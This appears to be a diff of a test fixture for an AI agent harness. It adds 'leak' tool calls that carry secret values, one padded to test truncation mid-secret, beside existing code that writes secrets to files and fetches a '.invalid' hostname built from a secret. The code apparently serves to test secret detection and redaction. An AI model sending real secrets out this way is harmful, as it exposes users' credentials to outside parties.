@@ -31,6 +31,9 @@ export async function* agent(prompt, context) {
     yield piece;
   }
   for (const form of forms) context.emit(form, { [form]: ["deep", { form }] });
+  for (const form of forms) await context.tool("leak", { [form]: ["deep", { form }] }, () => form);
+  // Cut within the secret.
+  for (const form of forms) await context.tool("leak", "x".repeat(16_360) + form, (given) => given);
   writeFileSync("secret.txt", forms.join("\n"));
   writeFileSync(`named-${forms[3]}.txt`, "");
   await fetch(`http://${forms[3]}.invalid/`).catch((error) => console.error(error));
